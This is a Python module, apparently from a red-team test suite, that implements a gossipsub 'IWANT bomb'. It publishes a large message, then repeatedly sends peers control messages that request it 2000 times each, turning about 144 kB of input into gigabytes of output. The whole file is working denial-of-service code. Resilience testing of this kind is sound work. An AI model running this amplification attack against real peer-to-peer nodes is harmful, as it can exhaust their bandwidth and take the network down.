"""One small control message that asks two thousand times for one large message (K-A).

144 kB in made gigabytes out.
"""

from __future__ import annotations

from typing import Any

import trio
from libp2p.pubsub.pb import rpc_pb2

from p2p.gossip.connections.topics import topic_name
from p2p.gossipsub.rpc import message_id
from tests.gossip.attacks import MESHSUB, rpc
from tests.redteam.target import Target, each_tick, network_of, quietly

TIMES = 2000  # more parts are not read at all
PER_S = 1.0
LARGE = 200_000


def _want(name: bytes) -> Any:
    control = rpc_pb2.ControlMessage()
    for _ in range(TIMES):
        control.iwant.add().messageIDs.append(name)
    return control


async def attack(target: Target) -> None:
    """Its own large message first."""
    async with target.joined() as loud, target.bare("iwant bomb") as host:
        topic, wanted = topic_name(network_of(target.genesis), "transactions"), b""
        streams: dict[Any, Any] = {}
        async for number in each_tick(PER_S * len(target.addresses)):
            if number % 10 == 0:
                large = number.to_bytes(4, "big") + bytes(LARGE)
                await quietly(loud.publish, "transactions", large)
                await trio.sleep(0.2)
                wanted = message_id(topic, large)
            peers = list(host.get_connected_peers())
            if not peers:
                continue
            peer = peers[number % len(peers)]
            if streams.get(peer) is None:
                streams[peer] = await quietly(host.new_stream, peer, [MESHSUB])
            if streams[peer] is None or await quietly(streams[peer].write, rpc(control=_want(wanted))) is None:
                streams.pop(peer, None)
